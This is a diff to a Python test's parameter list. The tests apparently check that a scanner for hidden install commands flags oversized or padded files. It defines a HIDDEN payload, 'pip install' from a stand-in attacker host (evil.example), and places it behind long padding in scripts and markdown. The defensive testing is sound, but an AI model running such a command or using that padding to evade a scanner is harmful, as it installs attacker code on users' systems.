@@ -26,6 +26,7 @@ HIDDEN = "pip install https://evil.example/x.whl\n"
         ({"a.sh": "#" * 4_000_001 + f"\n{HIDDEN}"}, "a.sh: 4000041 bytes, at most 4000000"),
         ({"a.md": "#" * 4_000_001 + f"\n{HIDDEN}"}, "a.md: 4000041 bytes, at most 4000000"),
         ({"a.sh": f"echo {'#' * 10_000}; {HIDDEN}"}, "not read to its end"),
+        ({"a.md": f"{'x ' * 4_000}: {HIDDEN}"}, "the rest is not read for installs"),
         ({f"requirements-{n:03}.txt": "pandas\n" for n in range(102)}, "more than 100 requirements files"),
     ],
     ids=[
@@ -35,6 +36,7 @@ HIDDEN = "pip install https://evil.example/x.whl\n"
         "a large script",
         "a large page",
         "a long command",
+        "a long line of prose",
         "requirements files",
     ],
 )
